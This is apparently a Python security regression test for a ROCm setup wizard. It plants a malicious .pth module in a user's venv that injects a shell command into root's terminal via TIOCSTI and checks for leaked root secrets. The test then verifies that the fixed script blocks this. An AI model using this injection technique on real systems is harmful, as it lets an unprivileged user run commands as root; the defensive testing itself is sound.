"""Finding 3 of issue 27, the attack itself: a venv owner's code tries to type into root's terminal.

Root runs rocm-wizard (the generated script, DRY_RUN=1 or not, ``--yes`` and ``verify``) on a
terminal: a pty whose slave is the command's controlling terminal and its stdin, stdout and stderr,
as an admin's shell is.  Alice's venv holds a ``.pth`` that, at every interpreter start, pushes
``touch /tmp/TIOCSTI-PWNED`` into the input of every terminal it can reach (fds 0-2 and
``/dev/tty``) with ``TIOCSTI``.  After the command, "root's shell" (a loop that runs each line typed
on the terminal) reads for a while: nothing may reach it, and the marker must not exist.

Where the kernel lets an unprivileged process use TIOCSTI on its own controlling terminal
(kernels before 6.2, or ``dev.tty.legacy_tiocsti = 1``), a control run (alice's interpreter started
with ``runuser`` alone, on root's terminal, as the script did before the fix) shows the attack
works here, so the test can fail.  Where the kernel forbids it, the structural property is what is
asserted (every start of alice's interpreter has no controlling terminal and ``/dev/tty`` gives
ENXIO) and the control's expected outcome is the kernel's refusal."""
from __future__ import annotations

import errno
import fcntl
import os
import subprocess
import termios
import threading
import time

from harness import wizard
from test_exec_torch import site, torch_args
from test_plan_script import make_script
from test_venv_owner import VENV, alice_venv

LOG = "/tmp/tiocsti-attempts"
MARKER = "/tmp/TIOCSTI-PWNED"
PAYLOAD = f"touch {MARKER}\n"

# alice's module, imported by a .pth at every start of her interpreter
SPY_MODULE = f'''
import errno, fcntl, os, termios

def _push(fd):
    try:
        for c in {PAYLOAD.encode()!r}:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        return "typed"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))

def _attempt():
    res = []
    for fd in (0, 1, 2):
        res.append("fd%d=%s" % (fd, _push(fd)))
    try:
        fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    except OSError as exc:
        res.append("devtty=open-" + errno.errorcode.get(exc.errno, str(exc.errno)))
    else:
        res.append("devtty=" + _push(fd))
        os.close(fd)
    stat = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
    res.append("tty_nr=" + stat[4])
    res.append("secrets=" + ("yes" if set(["HF_TOKEN", "RW_MIRROR_PASSWORD"]) & set(os.environ) else "no"))
    with open({LOG!r}, "a") as fh:
        fh.write(" ".join(res) + "\\n")

try:
    _attempt()
except Exception as exc:
    with open({LOG!r}, "a") as fh:
        fh.write("error=%r\\n" % (exc,))
'''

# root's secrets in the environment of the commands root runs (finding 9)
ROOT_SECRETS = {"HF_TOKEN": "hf_ROOTS-token-5e21", "RW_MIRROR_PASSWORD": "mirror-ROOTS-pass-0c4f"}

# root's shell after the command: whatever was typed on the terminal is read and run
SHELL_AFTER = 'while IFS= read -r -t 3 line; do printf "TYPED<%s>\\n" "$line"; eval "$line"; done; echo SHELL-DONE'


def tiocsti_allowed() -> bool:
    """Whether this kernel lets a process without CAP_SYS_ADMIN push input into its own
    controlling terminal: the sysctl exists from Linux 6.2 on (0 forbids); before it, always."""
    try:
        with open("/proc/sys/dev/tty/legacy_tiocsti") as fh:
            return fh.read().strip() != "0"
    except FileNotFoundError:
        return True


def plant(root):
    sp = site(root, VENV)[len(root.host_path("/")):].lstrip("/")
    for name, text in (("tiocsti_spy.py", SPY_MODULE), ("zz-tiocsti.pth", "import tiocsti_spy\n")):
        root.run(["sh", "-c", 'printf "%s" "$1" >"$0"', f"/{sp}/{name}", text], user="alice", check=True)
    root.write(LOG, "", mode=0o666)
    os.chmod(root.host_path(LOG), 0o666)


def on_terminal(root, command: str, env=None, timeout: float = 400):
    """Run ``command`` (then root's shell loop) inside the root, as root, with a fresh pty as its
    controlling terminal and stdin/stdout/stderr.  Returns (exit status, everything the terminal
    showed)."""
    master, slave = os.openpty()
    wrapped = root._wrap(["bash", "-c", command + "\n" + SHELL_AFTER], root.env(wizard.env(env)), None, "/")

    def ctty():
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen(wrapped, stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
                            preexec_fn=ctty, close_fds=True)
    os.close(slave)
    shown = bytearray()

    def read():
        while True:
            try:
                data = os.read(master, 65536)
            except OSError as exc:  # EIO: every slave descriptor is closed
                if exc.errno == errno.EIO:
                    return
                raise
            if not data:
                return
            shown.extend(data)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    try:
        rc = proc.wait(timeout=timeout)
    except subprocess.TimeoutExpired:
        root.kill_group(proc)
        rc = proc.wait()
    reader.join(timeout=10)
    os.close(master)
    return rc, shown.decode("utf-8", "replace")


def attempts(root):
    out = [dict(f.split("=", 1) for f in line.split()) for line in root.read(LOG).splitlines() if line.strip()]
    root.write(LOG, "", mode=0o666)
    os.chmod(root.host_path(LOG), 0o666)
    return out


def assert_nothing_typed(root, what, rc, shown):
    recs = attempts(root)
    assert "SHELL-DONE" in shown, f"{what}: root's shell loop did not run (exit {rc}):\n{shown[-3000:]}"
    assert recs, f"{what}: alice's interpreter never started (exit {rc}):\n{shown[-3000:]}"
    assert not [r for r in recs if "error" in r], recs
    # the structural property: no controlling terminal, /dev/tty is not there for alice's code
    assert all(r["tty_nr"] == "0" for r in recs), f"{what}: alice's code had a controlling terminal: {recs}"
    assert all(r["devtty"] == "open-ENXIO" for r in recs), f"{what}: /dev/tty opened for alice's code: {recs}"
    # and the attack itself: no push succeeded, nothing reached root's shell, nothing ran as root
    assert not [r for r in recs if "typed" in r.values()], f"{what}: TIOCSTI succeeded: {recs}"
    assert "TYPED<" not in shown, f"{what}: text typed by alice's code reached root's shell:\n{shown[-3000:]}"
    assert not root.exists(MARKER), f"{what}: root ran what alice's code typed"
    # finding 9: root's secrets (in the environment of every command run here) are not hers
    assert all(r.get("secrets", "no") == "no" for r in recs), f"{what}: root's environment reached alice's code: {recs}"
    return recs


def test_the_owners_code_types_nothing_into_roots_terminal(wroot, pyindex):
    root = wroot
    alice_venv(root, pyindex)
    plant(root)
    allowed = tiocsti_allowed()

    # the control: alice's interpreter on root's terminal, started the way the script did before
    # setsid (runuser alone): the attack reaches root's shell wherever the kernel allows TIOCSTI
    rc, shown = on_terminal(root, f"runuser -u alice -- '{VENV}/bin/python' -c pass")
    recs = attempts(root)
    assert recs and recs[0]["tty_nr"] != "0", (recs, shown)
    assert recs[0]["devtty"] != "open-ENXIO", recs
    if allowed:
        assert "typed" in recs[0].values(), f"the kernel allows TIOCSTI but the control's push failed: {recs}"
        assert root.exists(MARKER), ("the control typed into root's terminal but root's shell did not run it: "
                                     f"the test could not see the attack\n{shown[-3000:]}")
        root.remove(MARKER)
    else:
        assert "typed" not in recs[0].values(), f"the kernel forbids TIOCSTI (legacy_tiocsti=0) yet: {recs}"

    script = make_script(root, *torch_args(pyindex, VENV))
    for dry in ("1", "0"):
        rc, shown = on_terminal(root, f"bash {script}", env=dict(ROOT_SECRETS, DRY_RUN=dry))
        assert "Traceback" not in shown, (rc, shown[-3000:])
        assert_nothing_typed(root, f"the script (DRY_RUN={dry})", rc, shown)

    rc, shown = on_terminal(root, "python3 -m rocm_wizard --yes " + " ".join(f"'{a}'" for a in torch_args(pyindex, VENV)),
                            env=ROOT_SECRETS)
    assert "Traceback" not in shown, shown[-3000:]
    assert "verifying: GPU smoke test" in shown, shown[-3000:]
    assert_nothing_typed(root, "--yes", rc, shown)

    rc, shown = on_terminal(root, f"python3 -m rocm_wizard verify --json --venv '{VENV}'", env=ROOT_SECRETS)
    assert '"summary"' in shown, shown[-3000:]  # the report (the stand-in torch's own tracebacks are in it)
    assert_nothing_typed(root, "verify", rc, shown)
